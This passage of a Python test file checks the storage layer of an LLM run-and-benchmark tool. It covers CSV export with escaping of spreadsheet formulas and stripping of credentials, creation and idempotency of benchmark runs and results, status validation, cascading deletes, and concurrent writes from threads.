)
def test_csv_neutralises_text_cells_that_a_spreadsheet_would_run(engine: Engine, text: str, cell: str) -> None:
    create_run(engine, **run_fields(text=text, instruction=text, model=text or "m"))
    [row] = csv_rows(runs_to_csv(list_runs(engine)))
    assert (row["text"], row["instruction"]) == (cell, cell)
    assert row["model"] == (cell or "m")


def test_csv_leaves_numbers_as_numbers_even_negative_ones(engine: Engine) -> None:
    run = get_run(engine, create_run(engine, **run_fields(temperature=-0.5, count=3)))
    assert run is not None
    negative = dataclasses.replace(run, count=-3, target=-1, seconds=-1.25)  # e.g. a deviation-like number
    [row] = csv_rows(runs_to_csv([negative]))
    assert (row["count"], row["target"], row["seconds"], row["temperature"]) == ("-3", "-1", "-1.25", "-0.5")


def test_csv_quotes_a_neutralised_cell_when_csv_requires_it(engine: Engine) -> None:
    create_run(engine, **run_fields(text='=1+1, "two"\nthree'))
    data = runs_to_csv(list_runs(engine))
    assert '"\'=1+1, ""two""\nthree"' in data
    assert csv_rows(data)[0]["text"] == '\'=1+1, "two"\nthree'


def test_csv_never_shows_base_url_credentials() -> None:
    run = RunRecord(**{f.name: None for f in dataclasses.fields(RunRecord)} | {"base_url": "https://u:p@h/v1?key=s"})
    [row] = csv_rows(runs_to_csv([run]))
    assert row["base_url"] == "https://h/v1"


def test_csv_of_no_runs_is_just_the_header() -> None:
    assert list(csv.reader(io.StringIO(runs_to_csv([])))) == [list(CSV_COLUMNS)]


def test_csv_never_has_a_key_column() -> None:
    assert not [c for c in CSV_COLUMNS if "key" in c.lower() or "secret" in c.lower()]


def test_errors_summary_counts_by_type() -> None:
    assert errors_summary([]) == ""
    assert errors_summary([{"type": "repeat"}, {"type": "skip"}, {"type": "repeat"}]) == "repeat×2; skip×1"


# --- benchmarks ----------------------------------------------------------------------------------


def test_get_or_create_bench_run_returns_the_same_run_for_the_same_key(engine: Engine) -> None:
    first = get_or_create_bench_run(engine, "k1", **bench_fields(limit=10, seed=7))
    again = get_or_create_bench_run(engine, "k1", **bench_fields())
    other = get_or_create_bench_run(engine, "k2", **bench_fields())
    assert again.id == first.id != other.id
    assert (first.key, first.suite, first.limit, first.seed, first.status) == ("k1", "lifebench", 10, 7, "running")
    assert first.result_count == 0


def test_get_or_create_bench_run_joins_list_fields(engine: Engine) -> None:
    run = get_or_create_bench_run(engine, "k", **bench_fields(modes=["capel", "plain"], lengths=[100, 200]))
    assert (run.modes, run.lengths) == ("capel,plain", "100,200")


def test_get_or_create_bench_run_validates_fields(engine: Engine) -> None:
    with pytest.raises(ValueError, match="missing required"):
        get_or_create_bench_run(engine, "k", suite="s")
    with pytest.raises(ValueError, match="never stored"):
        get_or_create_bench_run(engine, "k", **bench_fields(api_key="sk-x"))


def test_add_bench_result_is_idempotent(engine: Engine) -> None:
    bench = get_or_create_bench_run(engine, "k", **bench_fields())
    assert add_bench_result(engine, bench.id, **result_fields(errors=[{"type": "skip"}])) is True
    assert add_bench_result(engine, bench.id, **result_fields(count=1)) is False
    [stored] = bench_results(engine, [bench.id])
    assert stored.count == 100 and stored.errors == [{"type": "skip"}]


def test_add_bench_result_defaults_and_round_trip(engine: Engine) -> None:
    bench = get_or_create_bench_run(engine, "k", **bench_fields())
    add_bench_result(
        engine, bench.id, **result_fields(status="error", count=None, exact=None, error_message="timeout 超时")
    )
    [row] = bench_results(engine, [bench.id])
    assert (row.status, row.count, row.exact, row.error_message) == ("error", None, None, "timeout 超时")
    assert (row.raw, row.text, row.errors) == ("", "", [])
    assert row.created_at.tzinfo == UTC


def test_add_bench_result_to_unknown_run_raises_key_error(engine: Engine) -> None:
    with pytest.raises(KeyError):
        add_bench_result(engine, 404, **result_fields())


def test_add_bench_result_rejects_bad_status(engine: Engine) -> None:
    bench = get_or_create_bench_run(engine, "k", **bench_fields())
    with pytest.raises(ValueError, match=r"bench_results.status must be one of \('ok', 'error'\)"):
        add_bench_result(engine, bench.id, **result_fields(status="maybe"))


def test_done_keys_lists_what_a_resumed_run_can_skip(engine: Engine) -> None:
    bench = get_or_create_bench_run(engine, "k", **bench_fields())
    other = get_or_create_bench_run(engine, "k2", **bench_fields())
    add_bench_result(engine, bench.id, **result_fields("a", 100, "capel"))
    add_bench_result(engine, bench.id, **result_fields("a", 200, "plain"))
    add_bench_result(engine, other.id, **result_fields("b", 100, "capel"))
    assert done_keys(engine, bench.id) == {("a", 100, "capel"), ("a", 200, "plain")}
    assert done_keys(engine, 999) == set()


def test_bench_results_for_several_runs(engine: Engine) -> None:
    one = get_or_create_bench_run(engine, "k1", **bench_fields())
    two = get_or_create_bench_run(engine, "k2", **bench_fields())
    three = get_or_create_bench_run(engine, "k3", **bench_fields())
    for bench in (one, two, three):
        add_bench_result(engine, bench.id, **result_fields("x"))
        add_bench_result(engine, bench.id, **result_fields("y"))
    rows = bench_results(engine, [two.id, one.id])
    assert [(r.bench_run_id, r.item_id) for r in rows] == [(one.id, "x"), (one.id, "y"), (two.id, "x"), (two.id, "y")]
    assert bench_results(engine, []) == []


def test_list_bench_runs_is_newest_first_with_result_counts(engine: Engine) -> None:
    old = get_or_create_bench_run(engine, "old", **bench_fields())
    new = get_or_create_bench_run(engine, "new", **bench_fields())
    for item in ("a", "b", "c"):
        add_bench_result(engine, old.id, **result_fields(item))
    listed = list_bench_runs(engine)
    assert [(b.id, b.result_count) for b in listed] == [(new.id, 0), (old.id, 3)]
    fetched = get_bench_run(engine, old.id)
    assert fetched is not None and fetched.result_count == 3
    assert get_bench_run(engine, 999) is None


def test_set_bench_run_status(engine: Engine) -> None:
    bench = get_or_create_bench_run(engine, "k", **bench_fields())
    set_bench_run_status(engine, bench.id, "interrupted")
    updated = get_bench_run(engine, bench.id)
    assert updated is not None
    assert updated.status == "interrupted" and updated.updated_at > bench.updated_at
    with pytest.raises(ValueError):
        set_bench_run_status(engine, bench.id, "paused")
    with pytest.raises(KeyError):
        set_bench_run_status(engine, 999, "complete")


def test_deleting_a_bench_run_cascades_to_its_results(engine: Engine) -> None:
    gone = get_or_create_bench_run(engine, "gone", **bench_fields())
    kept = get_or_create_bench_run(engine, "kept", **bench_fields())
    add_bench_result(engine, gone.id, **result_fields("a"))
    add_bench_result(engine, kept.id, **result_fields("a"))
    assert delete_bench_run(engine, gone.id) is True
    assert delete_bench_run(engine, gone.id) is False
    with engine.connect() as conn:
        assert conn.execute(text("SELECT bench_run_id FROM bench_results")).scalars().all() == [kept.id]


# --- concurrency ---------------------------------------------------------------------------------


def test_threads_write_concurrently_without_database_locked(engine: Engine) -> None:
    bench = get_or_create_bench_run(engine, "k", **bench_fields())
    run_ids = [create_run(engine, **run_fields()) for _ in range(8)]
    barrier = threading.Barrier(8)
    failures: list[BaseException] = []

    def worker(n: int) -> None:
        try:
            barrier.wait()
            for i in range(20):
                add_bench_result(engine, bench.id, **result_fields(f"t{n}-{i}"))
                update_run(engine, run_ids[n], raw=f"chunk {i}", count=i)
                list_runs(engine, limit=5)
        except BaseException as exc:
            failures.append(exc)

    threads = [threading.Thread(target=worker, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert failures == []
    assert len(done_keys(engine, bench.id)) == 160
    assert all(r.count == 19 and r.raw == "chunk 19" for r in list_runs(engine))


def test_threads_creating_the_same_bench_run_get_one_row(engine: Engine) -> None:
    barrier = threading.Barrier(8)
    ids: list[int] = []

    def worker() -> None:
        barrier.wait()
        ids.append(get_or_create_bench_run(engine, "same", **bench_fields()).id)

    threads = [threading.Thread(target=worker) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(ids) == 8
    assert len(set(ids)) == 1
    assert len(list_bench_runs(engine)) == 1


def test_threads_adding_the_same_result_store_it_once(engine: Engine) -> None:
    bench = get_or_create_bench_run(engine, "k", **bench_fields())
    barrier = threading.Barrier(8)
    outcomes: list[bool] = []

    def worker() -> None:
        barrier.wait()
        outcomes.append(add_bench_result(engine, bench.id, **result_fields()))

    threads = [threading.Thread(target=worker) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(outcomes) == [False] * 7 + [True]
